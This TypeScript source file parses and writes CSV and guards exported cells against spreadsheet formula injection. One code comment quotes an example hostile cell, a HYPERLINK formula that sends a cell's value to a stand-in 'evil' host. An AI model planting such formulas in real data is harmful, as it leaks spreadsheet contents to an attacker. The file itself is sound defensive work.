/**
 * CSV as spreadsheets write it (RFC 4180): UTF-8 with or without a BOM, `;` (Excel in Uzbek and Russian
 * locales) or `,` as the separator — whichever the header line uses outside quotes — fields in double
 * quotes may hold separators, quotes ("") and line breaks; CRLF or LF. Cells we write are neutralised
 * against formulas (neutraliseCell), and read back as they were (restoreCell).
 */

export interface CsvRecord {
  /** The line the record starts on (the header is line 1). */
  line: number;
  cells: string[];
}

export class CsvError extends Error {
  constructor(readonly reason: 'not_utf8' | 'empty' | 'unclosed_quote') {
    super(reason);
    this.name = 'CsvError';
  }
}

/** Decodes the file's bytes as UTF-8 (a BOM dropped); anything that is not UTF-8 is refused. */
export function decodeUtf8(data: Buffer): string {
  let text: string;
  try {
    text = new TextDecoder('utf-8', { fatal: true }).decode(data);
  } catch {
    throw new CsvError('not_utf8');
  }
  return text.charCodeAt(0) === 0xfeff ? text.slice(1) : text;
}

/** The separator of the header line: the one of `;` and `,` that appears more often outside quotes. */
export function detectSeparator(text: string): ';' | ',' {
  let semicolons = 0;
  let commas = 0;
  let quoted = false;
  for (const ch of text) {
    if (ch === '"') quoted = !quoted;
    else if (!quoted && (ch === '\n' || ch === '\r')) break;
    else if (!quoted && ch === ';') semicolons++;
    else if (!quoted && ch === ',') commas++;
  }
  return semicolons >= commas && semicolons > 0 ? ';' : commas > 0 ? ',' : ';';
}

/** Parses the whole text into records; blank lines are skipped. */
export function parseCsv(text: string, separator: ';' | ','): CsvRecord[] {
  const records: CsvRecord[] = [];
  let cells: string[] = [];
  let cell = '';
  let quoted = false;
  let line = 1;
  let start = 1;
  let fieldStarted = false;
  const endRecord = () => {
    cells.push(cell);
    if (!(cells.length === 1 && cells[0] === '' && !fieldStarted)) records.push({ line: start, cells });
    cells = [];
    cell = '';
    fieldStarted = false;
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"') {
        if (text[i + 1] === '"') {
          cell += '"';
          i++;
        } else quoted = false;
      } else {
        if (ch === '\n') line++;
        cell += ch;
      }
      continue;
    }
    if (ch === '"' && cell === '') {
      quoted = true;
      fieldStarted = true;
    } else if (ch === separator) {
      cells.push(cell);
      cell = '';
      fieldStarted = true;
    } else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      endRecord();
      line++;
      start = line;
    } else {
      cell += ch;
      fieldStarted = true;
    }
  }
  if (quoted) throw new CsvError('unclosed_quote');
  if (cell !== '' || cells.length > 0 || fieldStarted) endRecord();
  return records;
}

/**
 * A cell Excel or LibreOffice would run as a formula starts with `=`, `+`, `-` or `@` (a tab or carriage
 * return first hides one): a product named `=HYPERLINK("http://evil/?d="&B3,"Ochish")` would run on the
 * desk of whoever opens the export. Such a cell is written with a `'` first, which a spreadsheet shows as
 * text. A value that itself starts with apostrophes and then one of those gets one more, so that
 * restoreCell, which takes exactly one off, gives every value back as it was ("'=x" → "''=x" → "'=x").
 */
const FORMULA_START = /^'*[=+\-@\t\r]/;
const NEUTRALISED = /^'+[=+\-@\t\r]/;
export const neutraliseCell = (value: string): string => (FORMULA_START.test(value) ? `'${value}` : value);
/** The value neutraliseCell was given: one `'` off when apostrophes then a formula's first character start it. */
export const restoreCell = (cell: string): string => (NEUTRALISED.test(cell) ? cell.slice(1) : cell);

/**
 * One CSV line: every cell neutralised (a negative number too: "-5" → "'-5"), then quoted when it holds
 * the separator, a quote, a line break or leading/trailing spaces.
 */
export function csvLine(cells: ReadonlyArray<string | number | null>, separator: ';' | ','): string {
  return cells
    .map((c) => {
      const s = neutraliseCell(c === null ? '' : String(c));
      return /["\r\n]/.test(s) || s.includes(separator) || s !== s.trim() ? `"${s.replace(/"/g, '""')}"` : s;
    })
    .join(separator);
}
